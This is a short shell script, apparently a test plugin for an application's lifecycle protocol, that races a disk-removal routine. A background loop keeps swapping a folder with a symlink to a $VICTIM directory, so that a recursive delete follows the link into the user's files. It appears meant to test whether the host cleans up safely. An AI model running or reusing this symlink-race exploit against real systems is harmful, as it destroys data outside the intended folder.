# Exchanges a folder of its disk for a link to a folder of the user, again and again, while all is removed.
echo '{"protocol":1,"implements":["app.didFinishLaunching"]}'
disk=$LIFECYCLE_DISK
mkdir -p "$disk/a/b" && touch "$disk"/a/b/{1..50}
ln -s "$VICTIM" "$disk/link"
setsid bash -c 'while [[ -d $0 ]]; do mv -T "$0/a" "$0/c"; mv -T "$0/link" "$0/a"; mv -T "$0/a" "$0/link"; mv -T "$0/c" "$0/a"; done' "$disk" &>/dev/null &
while read -r line; do
  id=${line#*\"id\":}
  echo "{\"id\":${id%%[,\}]*}}"
done
